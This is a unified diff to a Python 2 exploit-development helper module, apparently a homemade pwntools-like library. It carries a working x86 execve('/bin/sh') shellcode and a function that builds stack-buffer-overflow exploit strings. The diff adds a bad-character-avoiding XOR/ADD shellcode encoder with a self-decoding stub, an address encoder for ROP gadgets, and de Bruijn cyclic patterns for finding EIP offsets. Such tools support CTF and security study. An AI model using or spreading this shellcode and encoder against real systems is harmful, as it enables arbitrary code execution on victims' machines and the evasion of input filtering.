@@ -1,30 +1,44 @@
 #!/usr/bin/env python2
 # -*- coding: utf-8 -*-
 from struct import pack
+import string
 import sys
 import os
+from array import array
 from mypwn.log import *
+from mypwn import mystring
 
 __all__ = [
     'return2ShellcodeInStack',
     'getEnvAddr',
+    'encode_shellcode',
+    'encode_address',
+    'cyclic',
+    'cyclic_iter',
+    'cyclic_find',
   ]
 
 SHELLCODE = '\x6a\x0b\x58\x31\xf6\x56\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x31\xc9\x89\xca\xcd\x80'
 # RETURN_ADDR = 0xbffff770
 
-def return2ShellcodeInStack(offsetToEip, exploitingBufferAddr, nop_sled_size = 0x100, debug = True):
+def return2ShellcodeInStack(offsetToEip, exploitingBufferAddr, nop_sled_size = 0x100, debug = True, badchars = None):
   '''Returns exploit string to a stack-based overflow on x86 architecture.
   Keyword arguments:
-    offsetToEip          -- size from exploited buffer to eip
+    offsetToEip          -- size from exploited buffer to eip, e.g.
+                            cyclic_find(eip) after a crash on cyclic(1024)
     exploitingBufferAddr -- pretended address of the shellcode in stack
     debug                -- turn on for generate SIGTRAP for debugging
+    badchars             -- bytes the target cuts the input on, default
+                            mypwn.mystring.BADCHARS; SHELLCODE is encoded
+                            (see encode_shellcode) if it has any
   '''
   # nop sled
   payload = '\x90' * nop_sled_size
   if debug:
     # call int3 - Trace/breakpoint trap
     payload += '\xcc' * 4
+  elif mystring.find_badchars(SHELLCODE, badchars):
+    payload += encode_shellcode(SHELLCODE, badchars)
   else:
     payload +=  SHELLCODE
 
@@ -38,8 +52,9 @@ def return2ShellcodeInStack(offsetToEip, exploitingBufferAddr, nop_sled_size = 0
     eip = pack('I', exploitingBufferAddr + offsetToEip + 4)
     exploit = padding + eip + payload + '\n'
 
-  if "\x00" in exploit:
-    log.warn('[%s]: NULL bytes in exploit', return2ShellcodeInStack.__name__)
+  # the trailing LF ends the line on purpose
+  for warning in mystring.badchar_warnings(exploit[:-1], badchars):
+    log.warn('[%s]: %s', return2ShellcodeInStack.__name__, warning)
   return exploit
 
 
@@ -54,6 +69,291 @@ def getEnvAddr(envName, ELFfile):
   return ptr
 
 
+# decoder stub of encode_shellcode(), position independent (jmp/call/pop):
+#   jmp   call           eb XX
+#   pop   esi            5e                ; esi/rsi = &payload
+#   xor   ecx, ecx       31 c9
+#   mov   cl, len        b1 XX             ; 66 b9 XX XX = mov cx, len
+#   xor   [esi], key     80 36 XX          ; 80 2e XX = sub byte [esi], key
+#   inc   esi            46                ; 48 ff c6 = inc rsi on x64
+#   loop  xor            e2 XX
+#   jmp   payload        eb 05
+#   call  pop            e8 XX XX XX XX
+_DECODE_OP = {'xor': '\x80\x36', 'add': '\x80\x2e'}
+_INC_ESI = {32: '\x46', 64: '\x48\xff\xc6'}
+_NOP = '\x90'
+
+def _decoder(key, length, method, bits, nops=0):
+  '''
+  Returns the stub decoding the `length' bytes following it, with `nops'
+  NOPs before the pop to move its jmp/call offsets off bad bytes
+  '''
+  if length < 0x100:
+    count = '\x31\xc9\xb1' + chr(length)
+  else:
+    count = '\x31\xc9\x66\xb9' + pack('<H', length)
+  loop = _DECODE_OP[method] + chr(key) + _INC_ESI[bits]
+  loop += '\xe2' + chr(-(len(loop) + 2) & 0xff)
+  body = _NOP * nops + '\x5e' + count + loop + '\xeb\x05'
+  return '\xeb' + chr(len(body)) + body + '\xe8' + pack('<i', -(len(body) + 5))
+
+def _encoding_keys(data, badchars, method):
+  '''
+  Returns the sorted keys k in 1..255 such that neither k nor any byte of
+  data encoded with k is in badchars. Each bad byte c rules out one key
+  per distinct byte b of data (b ^ c, or c - b for add): the search costs
+  256 * len(badchars) steps at most, whatever the size of data.
+  '''
+  present = bytearray(set(data))
+  bad = bytearray(badchars)
+  if method == 'xor':
+    excluded = set(b ^ c for b in present for c in bad)
+  else:
+    excluded = set((c - b) & 0xff for b in present for c in bad)
+  excluded.update(bad)
+  excluded.add(0)
+  return [k for k in xrange(0x100) if k not in excluded]
+
+def _encoding_table(key, method):
+  if method == 'xor':
+    return bytes(bytearray(b ^ key for b in xrange(0x100)))
+  return bytes(bytearray((b + key) & 0xff for b in xrange(0x100)))
+
+def encode_shellcode(shellcode=SHELLCODE, badchars=None, bits=32, methods=('xor', 'add')):
+  '''
+  Returns shellcode encoded with a one-byte XOR (or ADD) key free of bad
+  bytes, behind a decoder stub (x86 or x64 per `bits') restoring it in
+  place, so it has to run from writable memory, e.g. the stack.
+
+  badchars defaults to mypwn.mystring.BADCHARS. When the length of the
+  shellcode or the offsets of the stub would be bad bytes, NOPs are
+  appended to the shellcode or put in the stub.
+  Raises ValueError when no key nor padding gives a clean result.
+
+  Example:
+  >>> encoded = encode_shellcode(SHELLCODE, '\x00\x0a\x0b\x0d\x20')
+  >>> mystring.find_badchars(encoded, '\x00\x0a\x0b\x0d\x20')
+  []
+  '''
+  if badchars is None:
+    badchars = mystring.BADCHARS
+  for method in methods:
+    # opcodes of the stub whatever the length
+    if mystring.find_badchars('\xeb\x5e\x31\xc9\xe2\x05\xe8' + _DECODE_OP[method]
+                              + _INC_ESI[bits], badchars):
+      continue
+    for padding in xrange(0x10000 - len(shellcode)):
+      if padding < 2:
+        # the first NOP is the last byte the keys depend on
+        keys = _encoding_keys(shellcode + _NOP * padding, badchars, method)
+        if not keys:
+          break
+      # the key byte is clean, only the length and offsets may not be
+      for nops in xrange(4):
+        stub = _decoder(keys[0], len(shellcode) + padding, method, bits, nops)
+        if not mystring.find_badchars(stub, badchars):
+          data = shellcode + _NOP * padding
+          return stub + data.translate(_encoding_table(keys[0], method))
+  raise ValueError('no %s key avoids bad chars %r' % ('/'.join(methods), badchars))
+
+def encode_address(address, badchars=None, size=4, method='xor'):
+  '''
+  Returns (encoded, key) such that encoded ^ key == address (or
+  encoded + key == address modulo 2**(8*size) for method 'add') and that
+  neither packed in `size' bytes little-endian contains bad bytes, e.g. to
+  rebuild an address with `xor eax, ebx' or `add eax, ebx' gadgets.
+  Raises ValueError when there is no such pair.
+
+  Example:
+  >>> [hex(n) for n in encode_address(0x0804a00a, '\x00\x0a')]
+  ['0x905a10b', '0x1010101']
+  '''
+  if badchars is None:
+    badchars = mystring.BADCHARS
+  good = [k for k in xrange(0x100) if chr(k) not in badchars]
+  dead = set() # (byte, carry in) known to have no solution
+  # per byte from the lowest, with the carry of the add into the next one
+  # (always 0 for xor); keys are tried lowest first
+  def search(i, carry):
+    if i == size:
+      return (0, 0)
+    if (i, carry) in dead:
+      return None
+    b = (address >> (8 * i)) & 0xff
+    for k in good:
+      if method == 'xor':
+        e = b ^ k
+        out = 0
+      else:
+        e = (b - k - carry) & 0xff
+        out = (e + k + carry) >> 8
+      if chr(e) in badchars:
+        continue
+      rest = search(i + 1, out)
+      if rest is not None:
+        return (rest[0] << 8 | e, rest[1] << 8 | k)
+    dead.add((i, carry))
+    return None
+  result = search(0, 0)
+  if result is None:
+    raise ValueError('cannot encode 0x%x avoiding %r' % (address, badchars))
+  return result
+
+
+# cyclic() output is cut in strings of about this many chars
+_CYCLIC_CHUNK = 1 << 16
+# cyclic_find() indexes at most this many positions by default
+_CYCLIC_LENGTH = 1 << 22
+# the index is addressed by the rank of the subsequence while
+# len(alphabet)**n fits in this many slots, hashed beyond
+_CYCLIC_TABLE = 1 << 24
+_CYCLIC_MISSING = 0xffffffff
+# Fibonacci hashing: the ranks of neighbouring subsequences are close,
+# multiplying by 2**64/phi scatters them over the table
+_CYCLIC_GOLDEN = 0x9e3779b97f4a7c15
+
+def cyclic_iter(alphabet=string.ascii_lowercase, n=4, chunk_size=_CYCLIC_CHUNK):
+  '''
+  Returns iterator to the chunks of the de Bruijn sequence B(alphabet, n),
+  in which every string of n chars of `alphabet' occurs exactly once.
+  Only one chunk of about `chunk_size' chars is in memory at a time.
+
+  It is the lexicographically least sequence, the concatenation of the
+  Lyndon words whose length divides n in lexicographic order (Duval).
+  '''
+  if len(set(alphabet)) != len(alphabet) or not alphabet:
+    raise ValueError('alphabet must be distinct chars')
+  successor = dict(zip(alphabet, alphabet[1:]))
+  last = alphabet[-1]
+  word = alphabet[0]
+  chunk = []
+  size = 0
+  while word:
+    if n % len(word) == 0:
+      chunk.append(word)
+      size += len(word)
+      if size >= chunk_size:
+        yield ''.join(chunk)
+        chunk = []
+        size = 0
+    # next Lyndon word: repeat up to n chars, drop the trailing last
+    # chars, then increment the last one
+    word = (word * (n // len(word) + 1))[:n].rstrip(last)
+    if word:
+      word = word[:-1] + successor[word[-1]]
+  if chunk:
+    yield ''.join(chunk)
+
+def cyclic(length=None, alphabet=string.ascii_lowercase, n=4):
+  '''
+  Returns the first `length' chars of the de Bruijn sequence (see
+  cyclic_iter()), the whole sequence of len(alphabet)**n chars by default.
+  Any n consecutive chars give their offset back with cyclic_find().
+
+  Example:
+  >>> cyclic(20)
+  'aaaabaaacaaadaaaeaaa'
+  '''
+  total = len(alphabet) ** n
+  if length is None:
+    length = total
+  if length > total:
+    raise ValueError('cyclic(%d): only %d chars with %d symbols and n = %d'
+                     % (length, total, len(alphabet), n))
+  chunks = []
+  size = 0
+  for chunk in cyclic_iter(alphabet, n):
+    if size >= length:
+      break
+    chunks.append(chunk)
+    size += len(chunk)
+  return ''.join(chunks)[:length]
+
+class _CyclicIndex(object):
+  '''
+  Offsets of the n-char subsequences of cyclic(length, alphabet, n), in an
+  array('I') open-addressing table keyed by the rank of the subsequence,
+  read as a number in base len(alphabet). When len(alphabet)**n is small
+  enough the rank is the slot and there are no collisions, otherwise the
+  rank is hashed into a table of twice `length' slots.
+  '''
+  def __init__(self, alphabet, n, length):
+    self.alphabet = alphabet
+    self.n = n
+    self.pattern = cyclic(length, alphabet, n)
+    k = len(alphabet)
+    self.digits = dict((c, i) for (i, c) in enumerate(alphabet))
+    self.shift = None
+    self.size = k ** n
+    if self.size > _CYCLIC_TABLE:
+      bits = (2 * length).bit_length()
+      self.size = 1 << bits
+      self.shift = 64 - bits
+    self.table = array('I', [_CYCLIC_MISSING]) * self.size
+
+    table, mask = self.table, self.size - 1
+    top = k ** (n - 1)
+    rank = 0
+    for (i, c) in enumerate(self.pattern):
+      rank = rank % top * k + self.digits[c]
+      if i >= n - 1:
+        slot = self._slot(rank)
+        while table[slot] != _CYCLIC_MISSING:
+          slot = (slot + 1) & mask
+        table[slot] = i - n + 1
+
+  def _slot(self, rank):
+    if self.shift is None:
+      return rank
+    return (rank * _CYCLIC_GOLDEN & 0xffffffffffffffff) >> self.shift
+
+  def find(self, value):
+    '''Returns offset of value (at least n chars) in pattern, or -1'''
+    rank = 0
+    for c in value[:self.n]:
+      if c not in self.digits:
+        return -1
+      rank = rank * len(self.alphabet) + self.digits[c]
+    slot = self._slot(rank)
+    while self.table[slot] != _CYCLIC_MISSING:
+      offset = self.table[slot]
+      if self.pattern.startswith(value[:self.n], offset):
+        return offset if self.pattern.startswith(value, offset) else -1
+      slot = (slot + 1) & (self.size - 1)
+    return -1
+
+# the index of the last (alphabet, n, length) looked up
+_cyclic_index = None
+
+def cyclic_find(value, alphabet=string.ascii_lowercase, n=4, length=None):
+  '''
+  Returns the offset of `value' in cyclic(length, alphabet, n), or -1.
+  `value' is a string, or an int packed little-endian in 4 bytes (8 if it
+  does not fit or n > 4), e.g. the eip/rip of a crash on a cyclic pattern.
+
+  The first call builds an index of every offset of the pattern (up to
+  `length', by default the whole sequence or 4M chars), then each lookup
+  is O(1): values of n chars or more never scan the pattern. An 8-byte
+  value is looked up by its first n chars and checked against the rest.
+
+  Example:
+  >>> cyclic_find(0x61616162)   # 'baaa'
+  4
+  '''
+  global _cyclic_index
+  if isinstance(value, (int, long)):
+    value = pack('<Q' if value >> 32 or n > 4 else '<I', value)
+  if length is None:
+    length = min(len(alphabet) ** n, _CYCLIC_LENGTH)
+  index = _cyclic_index
+  if index is None or (index.alphabet, index.n, len(index.pattern)) != \
+      (alphabet, n, length):
+    index = _cyclic_index = _CyclicIndex(alphabet, n, length)
+  if len(value) < n:
+    return index.pattern.find(value)
+  return index.find(value)
+
+
 def return2ShellcodeInEnv(offsetToEip, bufferInEnv, debug = True):
   '''
   '''